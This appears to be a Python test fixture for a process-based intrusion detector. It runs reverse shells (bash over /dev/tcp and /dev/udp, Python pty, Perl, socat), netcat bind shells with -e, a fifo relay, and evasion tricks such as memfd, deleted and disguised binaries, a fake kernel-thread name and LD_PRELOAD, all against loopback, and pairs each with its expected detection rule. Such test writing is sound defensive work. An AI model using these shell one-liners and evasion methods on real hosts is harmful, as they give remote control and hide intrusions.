"""Techniques of intruders, really done, on the loopback interface.

In:    folders for programs and scripts; a server that accepts connections and holds still.
Out:   for each technique the process that a finding must be about, and by which rule.
Never: talks to anything but this host; runs what comes from the other end.
"""
import dataclasses
import os
import shutil
import signal
import socket
import subprocess

import witness

SLEEPER = "/usr/bin/sleep"
PYTHON = "/usr/bin/python3"  # the package's: another one would be remarkable by itself


@dataclasses.dataclass
class Expected:
    """A finding that has to be there. `find` gives the pid; the rule may be a reason among others."""
    technique: str
    rule: str
    severity: str
    find: object


class Server:
    """The attacker's end: it accepts, keeps, and never sends."""

    def __init__(self):
        self.tcp = socket.socket()
        self.tcp.bind(("127.0.0.1", 0))
        self.tcp.listen(64)
        self.udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.udp.bind(("127.0.0.1", 0))
        self.accepted = []

    @property
    def port(self):
        return self.tcp.getsockname()[1]

    def accept(self):
        self.tcp.settimeout(witness.PATIENCE / 4)
        self.accepted.append(self.tcp.accept()[0])


RESERVED = "/proc/sys/net/ipv4/ip_local_reserved_ports"


def free_port():
    """From now on nobody is given it who does not ask for it by number."""
    with socket.socket() as end:
        end.bind(("127.0.0.1", 0))
        port = end.getsockname()[1]
        with open(RESERVED, "r+", encoding="ascii") as reserved:
            known = reserved.read().strip()
            reserved.seek(0)
            reserved.write(f"{known},{port}" if known else str(port))
        return port


def children(pid):
    found = []
    for entry in os.listdir("/proc"):
        if entry.isdigit():
            try:
                with open(f"/proc/{entry}/stat", "rb") as stat:
                    if int(stat.read().rsplit(b")", 1)[1].split()[1]) == pid:
                        found.append(int(entry))
            except OSError:
                pass
    return found


def program_of(pid):
    try:
        return os.path.basename(os.readlink(f"/proc/{pid}/exe"))
    except OSError:
        return ""


def below(pid, program):
    """A process of that program among a process and its descendants."""
    todo = [pid]
    while todo:
        each = todo.pop()
        if program_of(each) == program:
            return each
        todo += children(each)
    return None


def runs(process, program):
    """Waits until the process, or one below it, runs the program; gives its pid."""
    return lambda: witness.wait_until(lambda: below(process.pid, program), f"{program} runs")


def is_listening(port):
    for name in ("tcp", "tcp6"):
        with open(f"/proc/net/{name}", encoding="ascii") as table:
            for line in table.readlines()[1:]:
                fields = line.split()
                if fields[1].endswith(f":{port:04X}") and fields[3] == "0A":
                    return True
    return False


def listens(port):
    witness.wait_until(lambda: is_listening(port), f"port {port} listens")


def descendants(pid):
    found = children(pid)
    for child in list(found):
        found += descendants(child)
    return found


def keep_orphans():
    """What outlives its parent becomes a child of the test, and ends with it."""
    PR_SET_CHILD_SUBREAPER = 36
    witness.prctl(PR_SET_CHILD_SUBREAPER, 1)
    witness.at_end(end_orphans)


def end_orphans():
    while children(os.getpid()):
        for each in descendants(os.getpid()):
            try:
                os.kill(each, signal.SIGKILL)
            except ProcessLookupError:
                pass
        try:
            while os.waitpid(-1, os.WNOHANG)[0]:
                pass
        except ChildProcessError:
            break


def start(command, **options):
    """In a session of its own, so that nothing of it reaches the test's terminal."""
    options.setdefault("stdout", subprocess.DEVNULL)
    options.setdefault("stderr", subprocess.DEVNULL)
    return witness.start(command, start_new_session=True, **options)


def shells_on_sockets(server):
    where = f"127.0.0.1/{server.port}"
    tcp = start(["bash", "-c", f"exec bash -i >& /dev/tcp/{where} 0>&1"])
    server.accept()
    udp = start(["bash", "-c", "exec bash -i >& /dev/udp/127.0.0.1/"
                 f"{server.udp.getsockname()[1]} 0>&1"])
    other = start(["bash", "-c", f"exec 5<>/dev/tcp/{where}; while read -r -u 5 line; do :; done"])
    server.accept()
    yield Expected("bash on TCP", "shell-on-network", "critical", runs(tcp, "bash"))
    yield Expected("bash on UDP", "shell-on-network", "critical", runs(udp, "bash"))
    yield Expected("bash with a connection at 5", "shell-holds-connection", "high",
                   runs(other, "bash"))
    connect = (f"import socket,os;s=socket.create_connection(('127.0.0.1',{server.port}));"
               "[os.dup2(s.fileno(),fd) for fd in (0,1,2)];")
    python = start([PYTHON, "-c", connect + "import pty;pty.spawn('/bin/sh')"])
    server.accept()
    yield Expected("python's pty", "shell-on-remote-terminal", "critical", runs(python, "dash"))
    yield Expected("python on the network", "program-on-network", "high", lambda: python.pid)
    perl = start(["perl", "-e", "use Socket; socket(S,PF_INET,SOCK_STREAM,6); connect(S,"
                  f"sockaddr_in({server.port},inet_aton('127.0.0.1'))); while(<S>){{ system($_) }}"])
    server.accept()
    yield Expected("perl that waits for commands", "inline-code-on-network", "high",
                   lambda: perl.pid)


def relays(server):
    port = free_port()
    idle = start(["nc.traditional", "-l", "-p", port, "-s", "127.0.0.1", "-e", "/bin/sh"])
    yield Expected("nc -e, idle", "hands-out-shell", "critical", lambda: idle.pid)
    listens(port)
    port = free_port()
    ncat = start(["ncat", "-l", "127.0.0.1", port, "--sh-exec", "bash -i"])
    listens(port)
    yield Expected("ncat --sh-exec, idle", "hands-out-shell", "critical", lambda: ncat.pid)
    socat = start(["socat", f"TCP:127.0.0.1:{server.port}", "EXEC:/bin/bash,pty,stderr,setsid"])
    server.accept()
    yield Expected("socat with a pty", "shell-on-remote-terminal", "critical", runs(socat, "bash"))
    yield Expected("socat EXEC", "hands-out-shell", "critical", lambda: socat.pid)
    fifo = f"/tmp/sw-fifo-{os.getpid()}"
    os.mkfifo(fifo)
    witness.at_end(os.unlink, fifo)
    loop = start(["bash", "-c", f"cat {fifo} | sh -i 2>&1 | nc.traditional 127.0.0.1 {server.port} "
                  f"> {fifo}"])
    server.accept()
    yield Expected("a fifo loop", "shell-behind-relay", "critical", runs(loop, "dash"))
    yield Expected("a fifo loop's nc", "fifo-relay", "high", runs(loop, "nc.traditional"))
    name = f"sw-shell-{os.getpid()}"
    unix = start(["socat", f"ABSTRACT-LISTEN:{name},fork", "EXEC:sh"])
    start(["socat", f"ABSTRACT-CONNECT:{name},retry=50,interval=0.1", "-"], stdin=subprocess.PIPE)
    yield Expected("a shell on an abstract socket", "shell-behind-unix-socket", "high",
                   runs(unix, "dash"))
    port = free_port()
    applet = start(["busybox", "nc", "-ll", "-p", port, "-e", "/bin/sh"])
    listens(port)
    yield Expected("busybox nc -e", "hands-out-shell", "critical", lambda: applet.pid)


def odd_programs(server, folder):
    """Copies of netcat that listen, from places where no package puts it."""
    def netcat(path, *options, **more):
        port = free_port()
        process = start([path, "-l", "-p", port, "-s", "127.0.0.1", *options], **more)
        listens(port)
        return process

    source = shutil.which("nc.traditional")
    gone = folder / "gone"
    shutil.copy(source, gone)
    deleted = netcat(gone)
    gone.unlink()
    yield Expected("a deleted program", "deleted-program", "high", lambda: deleted.pid)
    temporary = f"/tmp/sw-{os.getpid()}"
    shutil.copy(source, temporary)
    witness.at_end(os.unlink, temporary)
    there = netcat(temporary)
    yield Expected("a program in /tmp", "program-in-temporary-place", "high", lambda: there.pid)
    hidden = folder / "..." / "x"
    hidden.parent.mkdir()
    shutil.copy(source, hidden)
    hid = netcat(hidden)
    yield Expected("a program in '...'", "hidden-program", "high", lambda: hid.pid)
    memory = os.memfd_create("x", 0)
    with open(source, "rb") as content:
        os.write(memory, content.read())
    os.set_inheritable(memory, True)
    anonymous = netcat(f"/proc/self/fd/{memory}", pass_fds=[memory])
    yield Expected("a program in memory", "memory-program", "critical", lambda: anonymous.pid)
    sshd = folder / "sshd"
    shutil.copy(source, sshd)
    false = netcat(sshd)
    yield Expected("a program called sshd", "borrowed-name", "high", lambda: false.pid)
    crond = folder / "crond"
    shutil.copy(os.path.realpath(shutil.which("bash")), crond)
    renamed = start([crond, "-c", f"exec {crond} >& /dev/tcp/127.0.0.1/{server.port} 0>&1"])
    server.accept()
    yield Expected("bash called crond", "shell-on-network", "critical", runs(renamed, "crond"))
    thread = start(["bash", "-c", f"exec -a '[kworker/0:1]' {SLEEPER} 1000"])
    yield Expected("a false kernel thread", "fake-kernel-thread", "critical",
                   runs(thread, "sleep"))
    library = folder / "preload.so"
    made = witness.run("g++", "-shared", "-fPIC", "-x", "c++", "-o", library, "-",
                       stdin=None, input=b"int sw_preloaded() { return 1; }\n")
    if made.returncode != 0:
        raise RuntimeError(made.stderr.decode())
    lent = f"/tmp/sw-preload-{os.getpid()}.so"
    shutil.copy(library, lent)
    witness.at_end(os.unlink, lent)
    preloaded = netcat(source, env=dict(os.environ, LD_PRELOAD=lent))
    yield Expected("a preloaded library", "preloaded-library", "high", lambda: preloaded.pid)
    yield Expected("its code", "foreign-code-mapped", "critical", lambda: preloaded.pid)


HOLD = "import signal\nsignal.pause()\n"


def odd_sockets(folder):
    script = f"/tmp/sw-{os.getpid()}.py"
    with open(script, "w", encoding="ascii") as text:
        text.write("import socket\nend = socket.socket()\nend.bind(('127.0.0.1', 0))\n"
                   "end.listen()\n" + HOLD)
    witness.at_end(os.unlink, script)
    there = start([PYTHON, script])
    yield Expected("a script in /tmp", "script-in-temporary-place", "high", lambda: there.pid)
    sniffer = folder / "sniff.py"
    sniffer.write_text("import socket\nend = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0x300)\n"
                       "icmp = socket.socket(socket.AF_INET, socket.SOCK_RAW, 1)\n" + HOLD)
    sniffs = start([PYTHON, sniffer])
    yield Expected("a sniffer", "packet-socket", "high", lambda: sniffs.pid)
    yield Expected("a raw ICMP socket", "raw-socket", "high", lambda: sniffs.pid)
    inherits = start([PYTHON, "-c",
                      "import os,socket;end=socket.create_server(('127.0.0.1',0));"
                      "os.set_inheritable(end.fileno(),True);os.execv('/bin/bash',['bash','-c',"
                      "'read -r line < <(sleep 1000)'])"])
    yield Expected("a shell that was lent a listener", "shell-holds-listener", "high",
                   runs(inherits, "bash"))
    tool = start([PYTHON, "-c",
                  "import os,socket;end=socket.create_server(('127.0.0.1',0));"
                  f"os.set_inheritable(end.fileno(),True);os.execv('{SLEEPER}',['sleep','1000'])"])
    yield Expected("sleep that was lent a listener", "tool-on-network", "high",
                   runs(tool, "sleep"))
    nameless = witness.Helper(nameless_namespace)
    yield Expected("a listener in a namespace without a name", "nameless-namespace", "high",
                   lambda: nameless.pid)
    ready(there, sniffs)


def nameless_namespace():
    witness.enter_new_namespace()
    end = socket.socket()
    end.bind(("0.0.0.0", 81))
    end.listen()
    return witness.Kept([end])


def ready(*processes):
    """Each holds a socket at a descriptor beyond the standard ones."""
    def has_socket(pid):
        try:
            return any(os.readlink(f"/proc/{pid}/fd/{fd}").startswith("socket:")
                       for fd in os.listdir(f"/proc/{pid}/fd") if int(fd) > 2)
        except OSError:
            return False
    for process in processes:
        witness.wait_until(lambda process=process: has_socket(process.pid), "it holds a socket")


def do_all(server, folder):
    expected = []
    for techniques in (shells_on_sockets(server), relays(server),
                       odd_programs(server, folder), odd_sockets(folder)):
        expected += list(techniques)
    return expected
